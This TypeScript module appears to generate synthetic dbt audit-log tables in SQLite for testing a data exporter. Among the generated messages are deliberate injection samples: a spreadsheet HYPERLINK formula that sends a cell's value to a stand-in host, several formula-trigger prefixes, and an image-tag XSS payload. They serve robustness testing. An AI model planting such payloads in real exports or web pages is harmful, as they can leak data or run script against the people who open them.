import type { Database as Db } from 'better-sqlite3';
import { DAY_MS, at, formatTs, type Prng } from './prng';

const MODELS = [
  'stg_orders', 'stg_customers', 'stg_payments', 'stg_products', 'stg_order_items',
  'stg_shipments', 'stg_refunds', 'stg_web_sessions', 'stg_marketing_spend', 'stg_inventory',
  'int_orders_enriched', 'int_customer_orders', 'int_payments_pivoted', 'int_sessions_attributed',
  'int_inventory_snapshots', 'int_refunds_matched', 'int_product_margins', 'int_shipments_late',
  'dim_customers', 'dim_products', 'dim_dates', 'dim_channels', 'fct_orders', 'fct_payments',
  'fct_sessions', 'fct_inventory_daily', 'fct_refunds', 'mart_revenue_daily',
  'mart_customer_ltv', 'mart_marketing_roi',
] as const;

const USERS = ['dbt_cloud_svc', 'airflow', 'analytics_ci', 'maria.garcia', 'j.okafor', 'li.wei'];
const STEPS = ['compile', 'pre_hook', 'execute', 'materialize', 'post_hook', 'test', 'cleanup'];
const THREADS = 4;

const PLAIN_MESSAGES = [
  'Model built successfully',
  'Incremental merge on primary key',
  'Full refresh requested',
  'Late-arriving rows reprocessed for the last 3 days',
  'Materialized as table',
  'Materialized as view',
  'Schema change detected: append_new_columns',
];

const ERROR_MESSAGES = [
  'Database Error in model {m} (models/{m}.sql)\n  relation "raw.{m}" does not exist',
  'Database Error in model {m} (models/{m}.sql)\n  division by zero',
  'Compilation Error in model {m}: \'ref\' to "stg_unknown" was not found',
  'Runtime Error: could not serialize access due to concurrent update',
  'Timeout: statement exceeded 900 seconds',
];

/** Returns a custom_message: NULL, plain, or one of the hostile shapes an exporter must survive. */
function customMessage(rng: Prng, model: string, failed: boolean): string | null {
  if (failed && rng.chance(0.7)) {
    return rng.pick(ERROR_MESSAGES).replaceAll('{m}', model);
  }
  const roll = rng.next();
  if (roll < 0.5) {return null;}
  if (roll < 0.88) {return rng.pick(PLAIN_MESSAGES);}
  if (roll < 0.9) {return 'Überprüfung fehlgeschlagen – 数据质量 检查 ✅→❌ 🚀';}
  if (roll < 0.91) {return `Note: ${'long diagnostic text; '.repeat(rng.int(24, 40))}end`;}
  if (roll < 0.92) {return '=HYPERLINK("http://x/?"&A1)';}
  if (roll < 0.93) {return rng.pick(['+1+1', '-2+3', '@SUM(A1)', '\t=1+2', '＝1+2']);}
  if (roll < 0.94) {return '<img src=x onerror=alert(1)>';}
  if (roll < 0.96) {return `Rows "quoted", 'single'\nsecond line\r\nthird, with comma`;}
  return `Built ${model} — ${rng.int(1, 99)}% of budget 🎉`;
}

function createTables(db: Db): void {
  db.exec(`
    CREATE TABLE dbt_audit_summary (
      invocation_id VARCHAR(255), model_name VARCHAR(255), run_started_at TIMESTAMP,
      run_ended_at TIMESTAMP, execution_time_seconds INTEGER, rows_processed INTEGER,
      status VARCHAR(50), run_by_user VARCHAR(255), custom_message VARCHAR(1000) NULL,
      PRIMARY KEY (invocation_id, model_name));
    CREATE TABLE dbt_audit_detail (
      detail_log_id VARCHAR(255) PRIMARY KEY, invocation_id VARCHAR(255), model_name VARCHAR(255),
      step_name VARCHAR(255), step_sequence_num INTEGER NULL, event_timestamp TIMESTAMP,
      status VARCHAR(50), message VARCHAR(1000));
    CREATE TABLE dbt_audit_log (
      model_name VARCHAR(255), execution_time TIMESTAMP, row_count INT, run_id VARCHAR(255));
  `);
}

/** Indexes the join keys; built after the inserts so the b-trees are packed and built in one sort. */
function createIndexes(db: Db): void {
  db.exec(`
    CREATE INDEX dbt_audit_summary_started ON dbt_audit_summary (run_started_at);
    CREATE INDEX dbt_audit_detail_run ON dbt_audit_detail (invocation_id, model_name);
    CREATE INDEX dbt_audit_log_run ON dbt_audit_log (run_id);
  `);
}

type SummaryStatus = 'started' | 'completed' | 'error' | 'failed' | 'skipped';

const STATUS_WEIGHTS: readonly (readonly [SummaryStatus, number])[] = [
  ['completed', 91], ['failed', 4], ['error', 2], ['started', 1], ['skipped', 2],
];

/** Picks the ordered steps of one model run; `compile` and `execute` are always there. */
function pickSteps(rng: Prng): string[] {
  const optional = STEPS.filter((s) => s !== 'compile' && s !== 'execute');
  const chosen = new Set(['compile', 'execute', ...rng.sample(optional, rng.int(1, optional.length))]);
  return STEPS.filter((s) => chosen.has(s));
}

function stepMessage(step: string, model: string, seconds: number): string {
  switch (step) {
    case 'compile': return `Compiled ${model} in ${seconds.toFixed(2)}s`;
    case 'pre_hook': return `Running pre-hook for ${model}: insert into dbt_audit_log`;
    case 'execute': return `Executing SQL for ${model}`;
    case 'materialize': return `Swapped ${model}__dbt_tmp into place`;
    case 'post_hook': return `Running post-hook for ${model}: grant select to reporter`;
    case 'test': return `Ran ${Math.max(1, Math.round(seconds))} tests on ${model}: PASS`;
    default: return `Dropped temporary relations for ${model}`;
  }
}

/** Creates and fills dbt_audit_summary, dbt_audit_detail and dbt_audit_log (hook-written). */
export function buildDbtTables(db: Db, rng: Prng, base: number, scale = 1): void {
  createTables(db);
  const insertSummary = db.prepare('INSERT INTO dbt_audit_summary VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)');
  const insertDetail = db.prepare('INSERT INTO dbt_audit_detail VALUES (?, ?, ?, ?, ?, ?, ?, ?)');
  const invocations = Math.max(1, Math.round(2000 * scale));
  const span = 90 * DAY_MS;
  const start = base - span;
  const modelMedian = MODELS.map(() => rng.int(2, 240));
  const usedDetailIds = new Set<string>();
  const invocationIds: string[] = [];
  const invocationStarts: number[] = [];

  for (let i = 0; i < invocations; i++) {
    const invocationId = rng.uuid();
    const invStart = start + Math.floor(((i + rng.next() * 0.8) / invocations) * (span - 6 * 3_600_000));
    const user = rng.pick(USERS);
    invocationIds.push(invocationId);
    invocationStarts.push(invStart);
    const threads = Array.from({ length: THREADS }, () => invStart);
    MODELS.forEach((model, m) => {
      const thread = threads.indexOf(Math.min(...threads));
      const runStart = at(threads, thread) + rng.int(0, 3) * 1000;
      const status = rng.weighted(STATUS_WEIGHTS);
      const fullSeconds = Math.max(1, Math.round(rng.skewed(at(modelMedian, m))));
      let seconds = fullSeconds;
      if (status === 'skipped') {seconds = 0;}
      else if (status !== 'completed') {seconds = Math.max(1, Math.round(fullSeconds * rng.float(0.05, 0.9)));}
      threads[thread] = runStart + seconds * 1000;
      const ended = status === 'started' ? null : formatTs(runStart + seconds * 1000);
      const rows = status === 'completed' && rng.chance(0.12) ? rng.int(0, 5_000_000) : null;
      const failed = status === 'failed' || status === 'error';
      insertSummary.run(
        invocationId, model, formatTs(runStart), ended, status === 'started' ? null : seconds,
        rows, status, user, customMessage(rng, model, failed),
      );
      let steps = pickSteps(rng);
      if (failed || status === 'started') {
        steps = steps.slice(0, rng.int(3, Math.max(3, steps.length)));
      }
      if (status === 'skipped') {
        steps = ['compile', 'execute', 'cleanup'];
      }
      const stepGap = (Math.max(seconds, 1) * 1000) / steps.length;
      steps.forEach((step, s) => {
        const when = runStart + Math.floor(stepGap * s + rng.float(0, stepGap * 0.5));
        const last = s === steps.length - 1;
        let stepStatus = step === 'compile' && rng.chance(0.3) ? 'debug' : 'info';
        let message = stepMessage(step, model, stepGap / 1000);
        if (failed && last) {
          stepStatus = 'error';
          message = rng.pick(ERROR_MESSAGES).replaceAll('{m}', model);
        } else if (status === 'skipped' && step === 'execute') {
          stepStatus = 'debug';
          message = `SKIP relation ${model} due to upstream failure`;
        } else if (step === 'test' && rng.chance(0.04)) {
          stepStatus = 'warning';
          message = `Warning in test not_null_${model}_id: got ${rng.int(1, 40)} results, configured to warn if != 0`;
        } else if (!failed && rng.chance(0.0005)) {
          stepStatus = 'error';
          message = `Transient error on ${step}; retried and succeeded`;
        }
        const iso = formatTs(when, { sep: 'T', digits: 6, micros: rng.int(0, 999) });
        let id = `${iso}_${step}_${rng.alnum(4)}`;
        while (usedDetailIds.has(id)) {
          id = `${iso}_${step}_${rng.alnum(4)}`;
        }
        usedDetailIds.add(id);
        insertDetail.run(
          id, invocationId, model, step, rng.chance(0.02) ? null : s + 1,
          iso.replace('T', ' '), stepStatus, message,
        );
      });
    });
  }
  buildHookLog(db, rng, invocationIds, invocationStarts, scale);
  createIndexes(db);
}

const HOOKED_RELATIONS = [
  '"analytics"."marts"."orders"', '"analytics"."marts"."customers"', '"analytics"."marts"."payments"',
  '"analytics"."staging"."stg_orders"', '"analytics"."staging"."stg_customers"',
  '"analytics"."marts"."revenue_daily"', '"analytics"."marts"."inventory_daily"',
  '"analytics"."staging"."stg_web_sessions"',
];

/** Fills dbt_audit_log as pre/post hooks would: `<relation> - BEFORE` / `- AFTER` pairs per run. */
function buildHookLog(db: Db, rng: Prng, ids: readonly string[], starts: readonly number[], scale: number): void {
  const insert = db.prepare('INSERT INTO dbt_audit_log VALUES (?, ?, ?, ?)');
  const counts = new Map<string, number>(HOOKED_RELATIONS.map((r) => [r, rng.int(1_000, 2_000_000)]));
  const runs = Math.min(ids.length, Math.max(1, Math.round(500 * scale)));
  const stride = ids.length / runs;
  for (let r = 0; r < runs; r++) {
    const index = Math.floor(r * stride);
    const runId = at(ids, index);
    let t = at(starts, index) + rng.int(1, 20) * 1000;
    const relations = rng.sample(HOOKED_RELATIONS, rng.int(2, 5));
    const crashes = rng.chance(0.02);
    for (const [k, relation] of relations.entries()) {
      const before = counts.get(relation) ?? 0;
      insert.run(`${relation} - BEFORE`, formatTs(t), before, runId);
      if (crashes && k === relations.length - 1) {
        break;
      }
      t += rng.int(2, 600) * 1000;
      const after = rng.chance(0.05) ? rng.int(0, before) : before + rng.int(0, Math.ceil(before * 0.01) + 50);
      counts.set(relation, after);
      insert.run(`${relation} - AFTER`, formatTs(t), after, runId);
      t += rng.int(1, 5) * 1000;
    }
  }
}
